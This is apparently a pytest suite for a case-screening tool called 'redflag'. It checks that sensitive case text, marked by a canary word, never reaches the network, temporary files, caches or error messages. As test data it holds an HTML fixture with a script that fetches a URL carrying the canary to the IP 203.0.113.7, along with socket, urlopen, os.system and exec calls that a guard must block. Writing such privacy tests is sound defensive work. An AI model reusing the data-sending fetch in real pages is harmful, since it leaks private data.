"""Nothing of a case leaves the machine, stays behind in a temporary file, or is told in an error."""

from __future__ import annotations

import contextlib
import copy
import io
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import traceback
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from reportlab.pdfgen import canvas

from redflag.cli import main
from redflag.errors import RedflagError
from redflag.intake import load
from redflag.record import parse_yaml

ROOT = Path(__file__).parent.parent
GUARDED = Path(__file__).parent / "guarded.py"
CANARY = "kestrelquartz"
TOLD = f"In March 2019 the police arrested my brother {CANARY} because I did not come back."


def drawn() -> bytes:
    stream = io.BytesIO()
    page = canvas.Canvas(stream)
    page.drawString(72, 700, TOLD)
    page.save()
    return stream.getvalue()


def word() -> bytes:
    document, stream = docx.Document(), io.BytesIO()
    document.add_paragraph(TOLD)
    document.save(stream)
    return stream.getvalue()


def mail() -> bytes:
    message = EmailMessage()
    message["From"], message["Subject"] = f"{CANARY}@example.org", CANARY
    message.set_content(TOLD)
    message.add_attachment(drawn(), maintype="application", subtype="pdf", filename="a.pdf")
    return message.as_bytes()


PAPERS = {
    "a.txt": TOLD.encode(),
    "b.html": f"<p>{TOLD}<script>fetch('http://203.0.113.7/{CANARY}')</script>".encode(),
    "c.docx": word(),
    "d.pdf": drawn(),
    "e.eml": mail(),
    "f.rtf": rf"{{\rtf1 {TOLD}}}".encode(),
}


@pytest.fixture
def folder(tmp_path):
    """A case of papers in every format, and tables of cases."""
    case = tmp_path / "case"
    case.mkdir()
    for name, content in PAPERS.items():
        (case / name).write_bytes(content)
    (tmp_path / "cases.csv").write_text(f"id,state,note\n1,RUS,{CANARY}\n2,TUR,{CANARY}\n", encoding="utf-8")
    book = openpyxl.Workbook()
    for row in (("id", "state", "note"), ("1", "RUS", CANARY)):
        book.active.append(row)
    book.save(tmp_path / "cases.xlsx")
    (tmp_path / "map.yaml").write_text("columns: {id: case_id, state: requesting_state}\n", encoding="utf-8")
    return tmp_path


# fmt: off
COMMANDS = {
    "screen": ["screen", "case", "--as-of", "2021-01-01", "--format", "json", "--output", "out/a.json"],
    "page": ["screen", "case", "--as-of", "2021-01-01", "--format", "html", "--output", "out/a.html"],
    "word": ["screen", "case", "--as-of", "2021-01-01", "--format", "docx", "--output", "out/a.docx"],
    "ledger": ["screen", "case", "--as-of", "2021-01-01", "--ledger", "out/ledger", "--output", "out/b.txt"],
    "table": ["screen", "cases.csv", "--map", "map.yaml", "--as-of", "2021-01-01", "--output", "out/c.txt"],
    "workbook": ["batch", "cases.xlsx", "--map", "map.yaml", "--as-of", "2021-01-01", "-o", "out/d.jsonl"],
    "batch": [
        "batch",
        "cases.csv",
        "--map",
        "map.yaml",
        "--as-of",
        "2021-01-01",
        "--jobs",
        "2",
        "-o",
        "out/e.jsonl",
    ],
}


def run(
    folder: Path, command: list[str], *before: str
) -> tuple[subprocess.CompletedProcess[str], dict[str, Any]]:
    """One command under watch, with folders of its own for whatever it keeps."""
    for name in ("out", "tmp", "cache"):
        (folder / name).mkdir(exist_ok=True)
    account = folder / "account.json"
    given = {"TMPDIR": str(folder / "tmp"), "XDG_CACHE_HOME": str(folder / "cache"), "PYTHONPATH": str(ROOT)}
    arguments = [*before, sys.executable, str(GUARDED), str(account), CANARY, *command]
    done = subprocess.run(
        arguments, cwd=folder, env={**os.environ, **given}, capture_output=True, text=True, timeout=300
    )
    return done, json.loads(account.read_text(encoding="utf-8")) if account.is_file() else {}


@pytest.mark.parametrize(
    "deed",
    [
        "import socket; socket.create_connection(('203.0.113.7', 80))",
        "import urllib.request; urllib.request.urlopen('http://203.0.113.7/')",
        "import pickle, pathlib; pickle.loads(pickle.dumps(pathlib.Path('a')))",
        "import os; os.system('true')",
        "exec(compile('1', '/tmp/case/a.txt', 'exec'))",
    ],
)
def test_the_watch_ends_what_it_is_there_for(deed):
    code = f"import guarded; guarded.guard('x', []); {deed}"
    given = {"PYTHONPATH": os.pathsep.join((str(ROOT), str(GUARDED.parent)))}
    done = subprocess.run(
        [sys.executable, "-c", code], env={**os.environ, **given}, capture_output=True, text=True
    )

    assert (done.returncode, done.stderr[:5]) == (97, "GUARD")


@pytest.mark.parametrize("name", COMMANDS)
def test_no_command_reaches_out_or_runs_what_it_read_and_nothing_stays_behind(folder, name):
    done, told = run(folder, COMMANDS[name])

    assert done.returncode == 0, done.stderr
    assert told["compiled_with"] == []
    assert CANARY not in done.stderr
    assert all("pdfprocess.py" in one or name == "batch" for one in told["started"])
    assert list((folder / "tmp").rglob("*")) == []
    places = (str(folder / "out"), str(folder / "cache"), str(folder / "account.json"), "/dev/", "out/")
    assert [path for path in told["written"] if not path.startswith(places)] == []
    kept = [path for path in (folder / "cache").rglob("*") if path.is_file()]
    assert [path.name for path in kept if CANARY.encode() in path.read_bytes()] == []
    assert [path.name for path in (folder / "out").iterdir() if path.name.startswith(".")] == []


def without_network() -> list[str]:
    """What runs a command where there is no network at all; nothing where the system has no such place."""
    found = shutil.which("unshare")
    if found is None or subprocess.run([found, "-rn", "true"], capture_output=True).returncode != 0:
        return []  # the watch alone then
    return [found, "-rn"]


@pytest.mark.parametrize("name", ["screen", "batch"])
def test_every_command_does_its_work_where_there_is_no_network(folder, name):
    done, told = run(folder, COMMANDS[name], *without_network())

    assert done.returncode == 0, done.stderr
    assert told["code"] == 0


def test_training_keeps_what_the_cases_tell_to_itself(tmp_path):
    shutil.copytree(ROOT / "training_data", tmp_path / "data")
    case = tmp_path / "data" / "cases" / "case-001.yaml"
    told = case.read_text(encoding="utf-8")
    case.write_text(told.replace("note: The loss", f"note: {CANARY}. The loss", 1), encoding="utf-8")
    assert CANARY in case.read_text(encoding="utf-8")

    done, account = run(tmp_path, ["train", "--data", "data", "--output", "out"])

    assert done.returncode == 0, done.stderr
    assert CANARY not in done.stdout + done.stderr
    assert (account["compiled_with"], account["started"]) == ([], [])
    assert list((tmp_path / "tmp").rglob("*")) == []
    made = [path for name in ("out", "cache") for path in (tmp_path / name).rglob("*") if path.is_file()]
    assert (tmp_path / "out" / "model.json") in made
    assert [path for path in made if CANARY.encode() in path.read_bytes()] == []


# -- as it is installed


def main_command() -> str:
    """What the README runs first, once it has installed the project."""
    told = (ROOT / "README.md").read_text(encoding="utf-8")
    block = told.partition("<!-- main command -->")[2].partition("```sh\n")[2].partition("\n```")[0]
    return block.rpartition("&& ")[2].strip()


@pytest.fixture(scope="module")
def installed(tmp_path_factory) -> Path:
    """A folder with the examples, and the wheel installed beside them in an environment of its own.

    Nothing is fetched: the wheel is made by the tool that makes it for everybody, and what it needs is
    taken from the environment of the tests.
    """
    folder = tmp_path_factory.mktemp("installed")
    build = [sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", str(folder / "wheel")]
    subprocess.run(build, cwd=ROOT, check=True, capture_output=True)
    [wheel] = (folder / "wheel").glob("*.whl")
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(folder / ".venv")], check=True)
    python = str(folder / ".venv" / "bin" / "python")
    install = [sys.executable, "-m", "pip", "--python", python, "install", "--no-index", "--no-deps"]
    subprocess.run([*install, str(wheel)], check=True, capture_output=True)
    [own] = (folder / ".venv" / "lib").glob("python*/site-packages")
    needed = sysconfig.get_paths()["purelib"]  # stands behind: the installed redflag goes first
    (own / "needed.pth").write_text(f"{needed}\n", encoding="utf-8")
    shutil.copytree(ROOT / "examples", folder / "examples")
    return folder


EMPTY_NETWORK = without_network()
PLACE = "in a network with nothing in it" if EMPTY_NETWORK else "watched, as there is no empty network here"
INSTALLED = {
    "the README's main command": main_command(),
    "a page": ".venv/bin/redflag screen examples/ordinary_fraud --format html -o fraud.html",
    "a draft": ".venv/bin/redflag draft ccf examples/h_case --as-of 2021-05-01",
    "papers": ".venv/bin/redflag read examples/h_case/note_of_calls.txt",
    "a rule": ".venv/bin/redflag rules show family_pressure.relative_detained_or_arrested",
    "many": ".venv/bin/redflag batch examples/spreadsheet.csv --map examples/spreadsheet_columns.yaml "
    "--as-of 2024-01-01 --jobs 2 -o lines.jsonl",
}


@pytest.mark.parametrize("place", [PLACE])
@pytest.mark.parametrize("name", INSTALLED)
def test_what_is_installed_does_its_work_without_a_network(installed, tmp_path, name, place):
    """Where the system has no empty network, the watch of `guarded.py` stands in, and the name says so."""
    command = INSTALLED[name].split()
    assert command[0] == ".venv/bin/redflag"
    if not EMPTY_NETWORK:
        command = [".venv/bin/python", str(GUARDED), str(tmp_path / "account.json"), CANARY, *command[1:]]
    kept = {key: value for key, value in os.environ.items() if key != "PYTHONPATH"}
    given = {**kept, "TMPDIR": str(tmp_path), "XDG_CACHE_HOME": str(tmp_path / "cache")}

    done = subprocess.run(
        [*EMPTY_NETWORK, *command], cwd=installed, env=given, capture_output=True, text=True, timeout=300
    )

    assert done.returncode == 0, f"{place}: {done.stderr}"
    assert len(done.stdout) > 200 or "-o" in command


def test_it_is_the_installed_package_that_ran(installed):
    asked = "import redflag; print(redflag.__file__)"
    kept = {key: value for key, value in os.environ.items() if key != "PYTHONPATH"}
    found = subprocess.run(
        [".venv/bin/python", "-c", asked], cwd=installed, env=kept, capture_output=True, text=True
    )

    assert Path(found.stdout.strip()).is_relative_to(installed / ".venv"), found.stderr


# -- errors


CASE = parse_yaml(
    (ROOT / "examples" / "h_case" / "case.yaml").read_text(encoding="utf-8"), None, RedflagError
).data


def leaves(value: Any, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    """The path of everything in a case, groups and lists among them."""
    below = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(one for key, inner in below for one in leaves(inner, (*path, key)))]


def spoilt(path: tuple[str | int, ...], value: Any) -> Any:
    """The case with another value at a path."""
    case = copy.deepcopy(CASE)
    if not path:
        return value
    holder = case
    for key in path[:-1]:
        holder = holder[key]
    holder[path[-1]] = value
    return case


PATHS = leaves(CASE)
SCALARS = [CANARY, f"2021-{CANARY}", f"{CANARY}\0", f"\ud800{CANARY}", -1, 1.5, True, None, 10**30]
KEYS = st.sampled_from(["id", "kind", "date"])
ODD = st.recursive(
    st.sampled_from(SCALARS),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(KEYS, inner, max_size=2),
    max_leaves=4,
)


@settings(max_examples=120, deadline=None)
@given(st.sampled_from(PATHS), ODD)
def test_no_error_and_no_traceback_tells_a_value_of_a_case(path, value):
    told = ""
    try:
        load(spoilt(path, value))  # most values are refused, some are not
    except RedflagError as error:
        told = "".join(traceback.format_exception(error))

    assert CANARY not in told


@settings(max_examples=25, deadline=None)
@given(st.sampled_from(PATHS), ODD)
def test_no_more_does_the_command(tmp_path_factory, path, value):
    folder = tmp_path_factory.mktemp("case")
    (folder / "case.json").write_text(json.dumps(spoilt(path, value)), encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()

    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        main(["screen", str(folder / "case.json"), "--as-of", "2021-01-01", "--quiet"])

    assert CANARY not in err.getvalue()


@pytest.mark.parametrize(
    "name", ["x.pdf", "x.docx", "x.xlsx", "x.csv", "x.json", "x.yaml", "x.eml", "x.zip", "x.jsonl"]
)
@pytest.mark.parametrize("cut", [0, 7, 300])
def test_a_broken_file_is_told_without_its_text(folder, name, cut, capsys):
    whole = {
        "x.pdf": PAPERS["d.pdf"], "x.docx": PAPERS["c.docx"], "x.eml": PAPERS["e.eml"],
        "x.xlsx": (folder / "cases.xlsx").read_bytes(), "x.csv": (folder / "cases.csv").read_bytes(),
    }.get(name, f'{{"{CANARY}": ["{CANARY}'.encode())  # fmt: skip
    (folder / name).write_bytes(whole[:-cut] if cut else whole + CANARY.encode())

    main(["screen", str(folder / name), "--as-of", "2021-01-01"])

    assert CANARY not in capsys.readouterr().err
